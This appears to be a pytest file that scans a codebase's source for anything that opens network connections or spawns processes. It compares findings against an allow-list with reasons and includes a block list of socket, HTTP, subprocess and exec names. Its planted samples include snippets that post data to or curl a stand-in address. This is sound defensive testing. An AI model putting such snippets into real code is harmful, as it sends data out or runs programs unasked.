"""What opens connections or starts programs is listed here, file by file: nothing else in the code does either.

Calls over gRPC are held by test_calls.py, what is sent over NATS by the servers; this finds what would go around both.
"""

from __future__ import annotations

import ast
from collections.abc import Iterator

import pytest
from support.boundary import BOUNDARY, ROOT

POSTING, SPAWNING = "todoke_kit.posting", "todoke_kit.spawning"
MODULES = {
    *(
        "_socket",
        "aiohttp",
        "asyncssh",
        "ctypes",
        "dns",
        "ftplib",
        "http.client",
        "httpx",
        "imaplib",
        "multiprocessing",
    ),
    *("nntplib", "paramiko", "poplib", "pty", "pycurl", "requests", "runpy", "smtplib", "socket", "ssl", "subprocess"),
    *("telnetlib", "urllib.request", "urllib.robotparser", "urllib3", "webbrowser", "websockets", "xmlrpc", POSTING),
    SPAWNING,
}
"""Whoever imports one of them, or a module inside it, could reach out by it."""

NAMES = {
    *("open_connection", "open_unix_connection", "create_connection", "create_unix_connection", "sock_connect"),
    *("create_datagram_endpoint", "urlopen", "insecure_channel", "secure_channel", "create_engine"),
    *("create_subprocess_exec", "create_subprocess_shell", "subprocess_exec", "subprocess_shell", "system", "popen"),
    *("fork", "forkpty", "posix_spawn", "posix_spawnp", "import_module", "__import__"),
    *(f"{how}{form}" for how in ("exec", "spawn") for form in ("l", "le", "lp", "lpe", "v", "ve", "vp", "vpe")),
}
"""Functions that open a connection, start a program or import what no import line names, whatever offers them."""

MAKERS = {"nats.connect", "nats.NATS", "nats.aio.client.Client"}
"""Many files name the class as a type; who calls it or stands on it could connect."""

LISTENS = "listens, and opens nothing"
DATABASE = "[databases]"
ALLOWED: dict[str, tuple[set[str], str]] = {
    "services/gateway/src/todoke_gateway/mail_client.py": ({"smtplib", "ssl"}, "[mails]"),
    "services/identity/src/todoke_identity/ocsp_client.py": ({POSTING}, "[asks]"),
    "services/forms/src/todoke_forms/ocsp_client.py": ({POSTING}, "[asks]"),
    "services/forms/src/todoke_forms/timestamp_client.py": ({POSTING}, "[stamps]"),
    "libs/kit/src/todoke_kit/posting.py": ({"http.client", "open_connection", "socket", "ssl"}, "[asks] and [stamps]"),
    "libs/kit/src/todoke_kit/bus.py": ({"nats.aio.client.Client", "ssl"}, "[connects]: the servers of [nats]"),
    "libs/kit/src/todoke_kit/rpc.py": ({"secure_channel"}, "[connects]: the calls of [rpc]"),
    "libs/kit/src/todoke_kit/fullness.py": ({"open_connection"}, "asks the NATS server beside it, on loopback alone"),
    "libs/kit/src/todoke_kit/database.py": ({"create_engine"}, DATABASE),
    "services/ledger/src/todoke_ledger/database.py": ({"create_engine"}, DATABASE),
    "libs/kit/src/todoke_kit/spawning.py": ({"create_subprocess_exec"}, "[setup] and the sanitizer, as below"),
    "libs/kit/src/todoke_kit/streams.py": (
        {"open_connection", SPAWNING},
        "[setup]: starts a server by its setup file, and looks first whether it runs already",
    ),
    "libs/kit/src/todoke_kit/web/server.py": ({"socket"}, LISTENS),
    "services/gateway/src/todoke_gateway/wiring.py": ({"socket"}, LISTENS),
    "services/forms/src/todoke_forms/web/server.py": ({"socket"}, LISTENS),
    "services/ledger/src/todoke_ledger/web/server.py": ({"socket"}, LISTENS),
    "services/forms/src/todoke_forms/files/sanitizer_client.py": ({SPAWNING}, "starts the sanitizer"),
    "services/sanitizer/src/todoke_sanitizer/sandbox.py": ({"ctypes"}, "system calls that take rights away"),
    "services/sanitizer/src/todoke_sanitizer/pdfium_fonts.py": ({"ctypes"}, "answers PDFium, from memory"),
    "services/sanitizer/src/todoke_sanitizer/core/images.py": ({"import_module"}, "one module of Pillow, by its name"),
    "clients/agent/src/todoke_agent/door/incoming.py": ({"socket"}, LISTENS),
    "clients/agent/src/todoke_agent/door/loopback.py": ({"socket"}, LISTENS),
    "clients/agent/src/todoke_agent/window/launcher.py": ({"subprocess"}, "the agent's own window"),
    "clients/testcard/src/todoke_testcard/vpcd.py": ({"create_connection", "socket"}, "dials the virtual reader"),
    "clients/testcard/src/todoke_testcard/export.py": ({"ssl"}, "writes certificates as PEM"),
}
"""What each file may mention of it, and why."""

GATE = "services/relay/src/todoke_relay/pump.py"
PLANTED = {
    "import urllib.request\n\ndef tell(data):\n    urllib.request.urlopen('http://198.51.100.1/', data)": "urlopen",
    "from urllib import request as ask\n\nask.Request('http://198.51.100.1/')": "urllib.request",
    "import urllib.parse\n\ntell = urllib.request.OpenerDirector": "urllib.request",  # what another file imported
    "from http.client import HTTPSConnection": "http.client",
    "from socket import socket as plug": "socket",
    "import ssl": "ssl",
    "import smtplib": "smtplib",
    "import httpx as h": "httpx",
    "import asyncio\n\nasync def tell():\n    await asyncio.open_connection('198.51.100.1', 80)": "open_connection",
    "from asyncio import open_connection as reach": "open_connection",
    "import asyncio\n\nreach = asyncio.get_running_loop().create_connection": "create_connection",
    "import os\n\nos.execvp('curl', ['curl', 'http://198.51.100.1/'])": "execvp",
    "import importlib\n\nimportlib.import_module('socket')": "import_module",
    "__import__('socket')": "__import__",
    "import grpc\n\ngrpc.aio.insecure_channel('198.51.100.1:1')": "insecure_channel",
    "import nats\n\nnats.connect('nats://198.51.100.1')": "nats.connect",
    "from nats.aio.client import Client\n\nClient()": "nats.aio.client.Client",
    "from nats.aio.client import Client as Bus\n\nclass Own(Bus): ...": "nats.aio.client.Client",
    "from todoke_kit.posting import Poster": POSTING,
    "from todoke_kit import posting": POSTING,
    "from todoke_kit import spawning": SPAWNING,
    "from todoke_kit.spawning import start": SPAWNING,
}


def openers(text: str) -> set[str]:
    """What of the above a file's text holds, by whatever name it is imported."""
    tree = ast.parse(text)
    imported = dict(_imports(tree))
    used = {_path(node, imported) for node in ast.walk(tree) if isinstance(node, ast.Attribute | ast.Name)}
    made = {_path(node, imported) for node in _made(tree)}
    paths = used | set(imported.values())
    modules = {module for path in paths for module in MODULES if path == module or path.startswith(f"{module}.")}
    return modules | made & MAKERS | {path.rpartition(".")[2] for path in paths} & NAMES


def _imports(tree: ast.AST) -> Iterator[tuple[str, str]]:
    """Everything imported: how the file calls it, and its full name."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from ((alias.asname or alias.name, alias.name) for alias in node.names)
        elif isinstance(node, ast.ImportFrom):
            yield from ((alias.asname or alias.name, f"{node.module}.{alias.name}") for alias in node.names)


def _made(tree: ast.AST) -> Iterator[ast.AST]:
    """What is called, and what classes stand on."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield node.func
        elif isinstance(node, ast.ClassDef):
            yield from node.bases


def _path(node: ast.AST, imported: dict[str, str]) -> str:
    """The full name of what was imported, "?." before anything else."""
    root, dot, rest = ast.unparse(node).partition(".")
    if root in imported:
        return imported[root] + dot + rest
    inside = any(name.startswith(f"{root}.") for name in imported)
    return root + dot + rest if inside else f"?.{root}{dot}{rest}"


def test_nothing_else_in_the_code_opens_a_connection_or_starts_a_program() -> None:
    files = sorted(ROOT.glob("*/*/src/**/*.py"))
    found = {str(file.relative_to(ROOT)): held for file in files if (held := openers(file.read_text()))}
    assert found == {file: held for file, (held, _) in ALLOWED.items()}


@pytest.mark.parametrize(("table", "module"), [("mails", "smtplib"), ("asks", POSTING), ("stamps", POSTING)])
def test_who_reaches_other_servers_is_on_the_boundary_s_page(table: str, module: str) -> None:
    files = [file for file, (held, why) in ALLOWED.items() if module in held and why == f"[{table}]"]
    assert {file.split("/")[1] for file in files} == {who for zone in BOUNDARY[table].values() for who in zone}


@pytest.mark.parametrize(("planted", "found"), PLANTED.items())
def test_whatever_else_would_reach_out_is_found(planted: str, found: str) -> None:
    pump = (ROOT / GATE).read_text()
    assert GATE not in ALLOWED
    assert openers(pump) == set()
    assert found in openers(f"{pump}\n{planted}\n")


@pytest.mark.parametrize("harmless", ["requests = []\nrequests.append(1)", "import urllib.parse", "import http"])
def test_names_that_only_look_alike_are_let_be(harmless: str) -> None:
    assert openers(harmless) == set()
